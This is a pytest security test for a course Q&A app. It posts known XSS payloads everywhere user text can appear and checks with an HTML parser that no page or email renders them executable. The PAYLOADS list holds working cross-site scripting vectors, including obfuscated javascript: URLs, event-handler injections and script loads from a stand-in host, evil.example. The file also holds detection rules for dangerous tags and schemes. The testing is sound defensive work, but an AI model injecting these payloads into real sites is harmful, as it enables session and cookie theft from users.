"""Known XSS payloads, posted as question titles, question bodies, answer bodies and flag
comments, never reach a page (or an email) in a form a browser would run.

Each page is parsed with html.parser: no tag that runs code or loads content (script, iframe,
svg, style, object...), no event handler or style attribute, no javascript:, vbscript: or
data: URL in a link or source attribute. The app's own <script src=app.js>, stylesheet link,
meta tags and nonce'd brand <style> in the head are the known exceptions.
"""

import re
from html.parser import HTMLParser

import pytest
from markupsafe import escape

from cohortapp.mail.models import OutboxMessage
from tests.discussion.conftest import (
    CLASSMATE,
    LESSON_KEY,
    LESSON_URL,
    QA,
    answered,
    ask,
    asked,
    rows,
    set_user,
    text_of,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    '<a href="jAvAsCrIpT:alert(1)">click me</a>',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    "<a href='javascript:alert(1)'",
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[entity](&#106;avascript:alert(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[image](data:image/png;base64,iVBORw0KGgo=)",
    "![img](javascript:alert(1))",
    '![x](https://example.com/x.png "onerror=alert(1)")',
    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    '<https://example.com/" onmouseover="alert(1)>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1))">old IE</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

APP_JS = "/static/js/app.js"
APP_CSS = "/static/css/app.css"
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcset",
    "cite",
    "ping",
}
FORBIDDEN_TAGS = {
    "iframe",
    "frame",
    "frameset",
    "svg",
    "math",
    "object",
    "embed",
    "applet",
    "base",
    "img",
}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


class Inspector(HTMLParser):
    """Collects every executable form in a document."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_body = False
        self.allowed = {"script": 0, "style": 0}

    def handle_starttag(self, tag, attrs):
        self.inspect(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self.inspect(tag, attrs)

    def inspect(self, tag, attrs):
        values = dict(attrs)
        if tag == "body":
            self.in_body = True
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag} {attrs}>")
        elif tag == "script":
            if attrs == [("src", APP_JS), ("defer", None)] and not self.in_body:
                self.allowed["script"] += 1
            else:
                self.problems.append(f"<script {attrs}>")
        elif tag == "style":
            if set(values) == {"nonce"} and not self.in_body:
                self.allowed["style"] += 1
            else:
                self.problems.append(f"<style {attrs}>")
        elif tag == "link" and (self.in_body or values != {"rel": "stylesheet", "href": APP_CSS}):
            self.problems.append(f"<link {attrs}>")
        elif tag == "meta" and (
            self.in_body or not (set(values) == {"charset"} or values.get("name") == "viewport")
        ):
            self.problems.append(f"<meta {attrs}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}={value!r} on <{tag}>")
            elif name in ("style", "srcdoc") or (
                name in URL_ATTRIBUTES and value and dangerous_url(value)
            ):
                self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_data(self, data):
        if self.cdata_elem == "script" and data.strip():
            self.problems.append(f"inline script: {data[:80]!r}")


def dangerous_url(value: str) -> bool:
    """Browsers ignore whitespace and control characters inside a URL's scheme."""
    normalised = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
    return any(scheme in normalised for scheme in DANGEROUS_SCHEMES)


def executable_forms(document: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(document)
    inspector.close()
    problems = inspector.problems
    lowered = document.lower()
    for tag in ("script", "style"):
        if lowered.count(f"<{tag}") != inspector.allowed[tag]:
            problems.append(f"a <{tag} beyond the app's own")
    problems.extend(f"raw <{tag}" for tag in ("iframe", "svg") if f"<{tag}" in lowered)
    return problems


def test_the_inspector_finds_what_a_browser_would_run():
    head = (
        '<html><head><meta charset="utf-8"><link rel="stylesheet" href="/static/css/app.css">'
        '<style nonce="abc">:root { --brand: #123; }</style>'
        '<script src="/static/js/app.js" defer></script></head><body>'
    )
    assert executable_forms(head + "<p>&lt;script&gt;alert(1)</p></body></html>") == []
    for bad in (
        "<script>alert(1)</script>",
        '<script src="/static/js/app.js" defer></script>',
        "<img src=x onerror=alert(1)>",
        "<p onmouseover=alert(1)>x</p>",
        '<a href="jAvAsCrIpT:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<form action="javascript:alert(1)"></form>',
        "<iframe src=https://example.com></iframe>",
        "<svg><g></g></svg>",
        "<style>p{}</style>",
        '<p style="color:red">x</p>',
        '<meta http-equiv="refresh" content="0">',
    ):
        assert executable_forms(head + bad + "</body></html>"), bad


@pytest.fixture
def people(login_as, make_user, add_role, world):
    make_user(CLASSMATE, "Cam Classmate")
    add_role(CLASSMATE, "alpha", "learner", "a1")
    return {
        "learner": login_as(world.learner),
        "classmate": login_as(CLASSMATE),
        "facilitator": login_as(world.facilitator),
        "admin": login_as(world.admin),
    }


def title_for(payload: str) -> str:
    """The payload as a question title: the form wants 8 to 200 characters."""
    return f"Q {payload}"[:200]


def pages_showing(app, people, payload) -> dict[str, tuple[str, bool]]:
    """Post the payload everywhere it can go; return each page that shows it, with whether
    the page shows the question's title."""
    learner, classmate = people["learner"], people["classmate"]
    facilitator, admin = people["facilitator"], people["admin"]
    set_user(app, CLASSMATE, wants_digest=True)
    title = title_for(payload)
    question_id = asked(learner, title, body=payload, page_key=LESSON_KEY)
    classmate.post(f"{QA}/{question_id}/follow")
    answer_id = answered(facilitator, question_id, payload)
    assert learner.post(f"{QA}/answers/{answer_id}/accept").status_code == 302
    for url in (f"{QA}/{question_id}/flag", f"{QA}/answers/{answer_id}/flag"):
        assert classmate.post(url, data={"reason": "other", "comment": payload}).status_code == 302
    assert (
        facilitator.post(f"{QA}/{question_id}/share", data={"show_names": "y"}).status_code == 302
    )
    promote = admin.post(f"/c/alpha/library/{question_id}/promote", data={"platform": "1"})
    assert promote.status_code == 302
    assert app.test_cli_runner().invoke(args=["notifications", "digest"]).exit_code == 0

    search = {"q": payload[:100]}
    gets = {
        "question page (learner)": (learner, f"{QA}/{question_id}", None, True),
        "question page (facilitator)": (facilitator, f"{QA}/{question_id}", None, True),
        "list": (learner, f"{QA}/", None, True),
        "list searched for the payload": (learner, f"{QA}/", search, False),
        "lesson page": (learner, LESSON_URL, None, True),
        "flag queue": (facilitator, f"{QA}/flags", None, True),
        "edit question form": (learner, f"{QA}/{question_id}/edit", None, True),
        "edit answer form": (facilitator, f"{QA}/answers/{answer_id}/edit", None, True),
        "city library": (classmate, "/c/alpha/library/", None, True),
        "city library searched for the payload": (classmate, "/c/alpha/library/", search, False),
        "city library item": (classmate, f"/c/alpha/library/{question_id}", None, True),
        "platform library": (classmate, "/library/", None, True),
        "platform library item": (classmate, f"/library/{question_id}", None, True),
    }
    pages = {}
    for name, (client, url, query, shows_title) in gets.items():
        response = client.get(url, query_string=query)
        assert response.status_code == 200, f"{name}: {response.status_code}"
        pages[name] = (text_of(response), shows_title)
    refused = ask(learner, title + "x" * 200, body=payload)
    assert refused.status_code == 422
    pages["ask form with errors"] = (text_of(refused), False)
    for message in rows(app, OutboxMessage):
        pages[f"email to {message.to_address}: {message.subject[:30]}"] = (
            message.body_html,
            True,
        )
    assert len(rows(app, OutboxMessage)) == 2  # the learner's email and the classmate's digest
    return pages


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_page_shows_a_payload_in_an_executable_form(app, people, payload):
    failures = []
    escaped_title = str(escape(title_for(payload).strip()))
    for name, (document, shows_title) in pages_showing(app, people, payload).items():
        if shows_title and escaped_title not in document:
            failures.append(f"{name}: the title is not shown, escaped")
        failures.extend(f"{name}: {problem}" for problem in executable_forms(document))
    assert not failures, "\n".join(failures)
